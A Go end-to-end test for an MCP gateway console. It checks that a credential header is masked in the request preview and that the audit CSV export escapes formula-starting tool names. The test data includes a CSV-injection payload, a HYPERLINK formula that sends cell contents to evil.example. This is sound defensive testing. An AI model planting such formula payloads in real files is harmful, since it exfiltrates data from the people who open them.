package console_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// formulaTools are tool names a hostile upstream may list: each starts
// with a character a spreadsheet reads as the start of a formula (OWASP
// "CSV Injection"), and one is harmless.
var formulaTools = []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+SUM(1,2)", "-2+3", "@SUM(1)", "\tTAB(1)", "\rCR(1)", "plain"}

// rawUpstream is an MCP server written on raw JSON-RPC, so it can list
// tools under any name; every call answers "ok".
func rawUpstream(t *testing.T, tools []string) string {
	t.Helper()
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			w.WriteHeader(http.StatusMethodNotAllowed)
			return
		}
		var m struct {
			ID     json.RawMessage `json:"id"`
			Method string          `json:"method"`
		}
		body, _ := io.ReadAll(r.Body)
		if json.Unmarshal(body, &m) != nil || len(m.ID) == 0 {
			w.WriteHeader(http.StatusAccepted)
			return
		}
		var result any
		switch m.Method {
		case "initialize":
			result = map[string]any{"protocolVersion": "2025-11-25", "capabilities": map[string]any{"tools": map[string]any{}}, "serverInfo": map[string]any{"name": "raw", "version": "1"}}
		case "tools/list":
			var list []map[string]any
			for _, n := range tools {
				list = append(list, map[string]any{"name": n, "inputSchema": map[string]any{"type": "object"}})
			}
			result = map[string]any{"tools": list}
		default:
			result = map[string]any{"content": []map[string]any{{"type": "text", "text": "ok"}}}
		}
		out, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": m.ID, "result": result})
		w.Header().Set("Content-Type", "application/json")
		w.Write(out)
	}))
	t.Cleanup(ts.Close)
	return ts.URL
}

// TestConsoleShowsNoHeaderValueAndExportsNoFormula (issue 22 §9, §10):
// the console's request preview shows a static header's name and a mask,
// never its value, whatever the name; and the audit export neutralises
// every cell a spreadsheet would run as a formula (a leading single quote
// inside a quoted cell), the hostile upstream's tool names included.
func TestConsoleShowsNoHeaderValueAndExportsNoFormula(t *testing.T) {
	up := rawUpstream(t, formulaTools)
	base := startGatewayWith(t, "data_dir: ./data\nauth:\n  master_key: ${MK}\nservers:\n  raw:\n    transport: http\n    url: "+up+"\n    headers: {X-Custom-Cred: s3cret}\n")
	code, sid, body := mcpPost(t, base, masterKey, "", initBody)
	if code != 200 || sid == "" {
		t.Fatalf("initialize: %d %s", code, body)
	}
	for i, name := range formulaTools {
		n, _ := json.Marshal("raw__" + name)
		if code, _, body := mcpPost(t, base, masterKey, sid, fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":%s,"arguments":{}}}`, i+2, n)); code != 200 || !strings.Contains(body, `"text":"ok"`) {
			t.Fatalf("call %q: %d %s", name, code, body)
		}
	}

	b := newBrowser(t)
	b.step("sign in", chromedp.Navigate(base+"/ui/"), chromedp.WaitVisible(c("#login-key")),
		chromedp.SendKeys(c("#login-key"), masterKey), chromedp.Click(c(`#login-form button[type="submit"]`)), chromedp.WaitVisible(c("#ready-count")))

	var preview, page string
	b.step("test connection", chromedp.Navigate(base+"/ui/#/servers"), chromedp.WaitVisible(x(`//button[@aria-label="Test connection to raw"]`)),
		chromedp.Click(x(`//button[@aria-label="Test connection to raw"]`)), chromedp.WaitVisible(c(`pre[aria-label="Request preview"]`)),
		into(&preview, chromedp.Text(c(`pre[aria-label="Request preview"]`))), into(&page, chromedp.OuterHTML(c("html"))))
	if !strings.Contains(preview, "X-Custom-Cred: ****") {
		t.Errorf("the preview does not show the header masked:\n%s", preview)
	}
	if strings.Contains(page, "s3cret") {
		t.Errorf("the page shows the header's value:\n%s", preview)
	}

	// The export is a download: the page's Blob is read as it is made.
	var got string
	b.step("export", chromedp.Navigate(base+"/ui/#/audit"), chromedp.WaitVisible(x(`//td[text()="plain"]`)),
		chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
			_, err := chromedp.Evaluate[bool](`(() => { window.__csv = null; const make = URL.createObjectURL;
				URL.createObjectURL = blob => { blob.text().then(s => { window.__csv = s; }); return make(blob); }; return true; })()`)(ctx, t)
			return err
		}),
		chromedp.Click(c("#audit-csv")),
		into(&got, chromedp.Poll[string](`window.__csv`)))
	if got == "" {
		t.Fatal("no CSV exported")
	}
	rows, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, got)
	}
	tool := -1
	for i, h := range rows[0] {
		if h == "tool" {
			tool = i
		}
	}
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		cell := r[tool]
		seen[cell] = true
		if strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("cell %q starts with a formula character", cell)
		}
	}
	for _, name := range formulaTools {
		want := name
		if name != "plain" {
			want = "'" + name
		}
		if !seen[want] {
			t.Errorf("no tool cell %q in the export:\n%s", want, got)
		}
	}
	// Quoted, so the quote and what follows stay one text cell.
	if !strings.Contains(got, `,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",`) || !strings.Contains(got, ",\"'\rCR(1)\",") {
		t.Errorf("formula cells are not quoted with their leading quote:\n%q", got)
	}
}
